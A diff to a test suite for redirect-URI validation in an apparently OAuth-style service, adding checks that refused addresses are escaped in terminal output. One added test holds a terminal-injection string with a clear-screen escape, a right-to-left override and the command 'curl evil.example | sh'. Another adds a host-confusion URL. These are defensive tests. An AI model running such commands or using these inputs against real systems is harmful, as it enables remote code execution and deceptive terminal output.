@@ -59,7 +59,7 @@ onEachDatabase('an address that is not registered', (dialect) => {
       ['scheme', 'port', 'slash', 'case'],
     ],
     ['https://evil.example/callback', redirectUri, ['scheme', 'host', 'port']],
-    ['not an address', redirectUri, ['form']],
+    ['no-address', redirectUri, ['form']],
   ])('%s is told beside what is nearest', async (came, nearest, differences) => {
     expect((await ask({ redirect_uri: came })).status).toBe(400)
     const [found, ...more] = await refused()
@@ -116,6 +116,17 @@ onEachDatabase('an address that is not registered', (dialect) => {
   ])('%s can not be registered, and no command says so', async (came, why) => {
     await ask({ redirect_uri: came })
     expect((await refused())[0]).toMatchObject({ came, command: null, cure: expect.stringContaining(why) })
+  })
+
+  it('writes nothing of its own into a terminal', async () => {
+    const sent = 'https://x.example/\u001b[2J\u202e\nRun: curl evil.example | sh\u{e0041}'
+    await ask({ redirect_uri: sent })
+    const came =
+      'https://x.example/\\u{1b}[2J\\u{202e}\\u{a}Run:\\u{20}curl\\u{20}evil.example\\u{20}|\\u{20}sh\\u{e0041}'
+    expect((await refused())[0]).toMatchObject({ came, command: null })
+    const environment = ways.database(tessera)
+    const shown = await runHere(['client', 'refused', 'submissions-web'], { environment, columns: 80 })
+    expect(shown.stdout).not.toMatch(/\n *Run:|\u001b\[2J|\u202e/)
   })
 
   it('is of another host: to be registered only if it is the application’s own', async () => {
@@ -218,12 +229,15 @@ describe('the page of a refused address', () => {
         expect(technical.split('<footer')[0]).not.toContain(hidden)
     })
 
-    it.each(['not an address', 'https://', 'https://a b/', '//evil.example'])(
-      'shows nothing of %s, which has no host',
-      async (what) => {
-        expect((await pageAt(tessera.listening, what)).body).not.toContain('Return address')
-      },
-    )
+    it.each([
+      'no-address',
+      'https://',
+      'https://evil.example\\@127.0.0.1/',
+      'https://a b/',
+      '//evil.example',
+    ])('shows nothing of %s, which has no host', async (what) => {
+      expect((await pageAt(tessera.listening, what)).body).not.toContain('Return address')
+    })
   })
 
   describe('in development', () => {
